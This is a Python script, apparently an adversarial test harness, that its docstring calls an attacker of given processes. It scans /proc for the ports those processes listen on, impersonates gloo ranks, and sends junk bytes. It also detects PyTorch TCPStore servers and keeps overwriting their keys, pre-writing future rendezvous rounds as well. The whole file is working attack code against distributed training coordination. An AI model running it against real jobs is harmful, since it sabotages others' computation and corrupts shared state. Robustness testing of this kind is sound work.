"""An attacker of the processes whose ids it is given, and of their children, as a user of their machine can be one:
it finds the ports on which they listen, and writes what it can. What it did is printed.

It reads the kernel's table of sockets for them, as everybody may, and not their memory.
"""

import contextlib
import os
import re
import socket
import struct
import sys
import time
from datetime import timedelta

import torch.distributed as distributed

VALIDATION = 0x3C85F7CE  # torch's TCPStore begins each connection with it
PLACES = 4
held: list[socket.socket] = []
LINES = (b"GET / HTTP/1.1\r\n\r\n", b'{"say":"beat"}\n', b"\0" * 64, b"\xff" * 64)


def listening(pids: list[int]) -> set[int]:
    """The ports on which the processes and their children listen."""
    inodes = {inode for pid in _with_children(pids) for inode in _sockets(pid)}
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with contextlib.suppress(OSError), open(table) as file:
            rows = [row.split() for row in file.readlines()[1:]]
            found |= {int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == "0A" and row[9] in inodes}
    return found


def _with_children(pids: list[int]) -> list[int]:
    found = list(pids)
    for pid in found:
        with contextlib.suppress(OSError), open(f"/proc/{pid}/task/{pid}/children") as file:
            found += map(int, file.read().split())
    return found


def _sockets(pid: int) -> list[str]:
    found = []
    with contextlib.suppress(OSError):
        for name in os.listdir(f"/proc/{pid}/fd"):
            with contextlib.suppress(OSError):
                target = os.readlink(f"/proc/{pid}/fd/{name}")
                if target.startswith("socket:["):
                    found.append(target[8:-1])
    return found


def open_at(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), 1.0)


def take_places(port: int) -> None:
    """Poses as another rank to gloo, which asks who connects for nothing but a small number."""
    for number in range(PLACES):
        with contextlib.suppress(OSError):
            connection = open_at(port)
            connection.sendall(struct.pack("<q", number))
            held.append(connection)
            print(f"took place {number} at {port}", flush=True)


def write_lines(port: int) -> None:
    for data in LINES:
        with contextlib.suppress(OSError), open_at(port) as connection:
            connection.sendall(data)
            print(f"wrote to {port}", flush=True)


def poison(port: int) -> None:
    """Lists the keys of a torch store, and writes over each, again and again; and writes beforehand what ranks will
    tell in the next rounds."""
    store = distributed.TCPStore("127.0.0.1", port, None, False, timedelta(seconds=2), wait_for_workers=False)
    print(f"torch's store at {port}", flush=True)
    while True:
        keys = {key for key in store.list_keys() if "/" in key}
        for key in keys | {re.sub(r"round\d+", f"round{number}", key) for key in keys for number in range(8)}:
            store.set(key, b"\0junk" * 8)


def is_store(port: int) -> bool:
    """Whether a torch store answers: a ping, to which it returns the number that it was sent."""
    number = 4711
    with contextlib.suppress(OSError), open_at(port) as connection:
        connection.sendall(struct.pack("=BI", 0, VALIDATION) + struct.pack("=BI", 13, number))
        return connection.recv(4) == struct.pack("=I", number)
    return False


def main(takes_places: bool, pids: list[int]) -> None:
    done: set[int] = set()
    while True:
        for port in listening(pids) - done:
            done.add(port)
            if takes_places:
                take_places(port)
                continue
            write_lines(port)
            if is_store(port):
                with contextlib.suppress(Exception):
                    poison(port)
        time.sleep(0.001)


main(sys.argv[1] == "take-places", [int(word) for word in sys.argv[2:]])
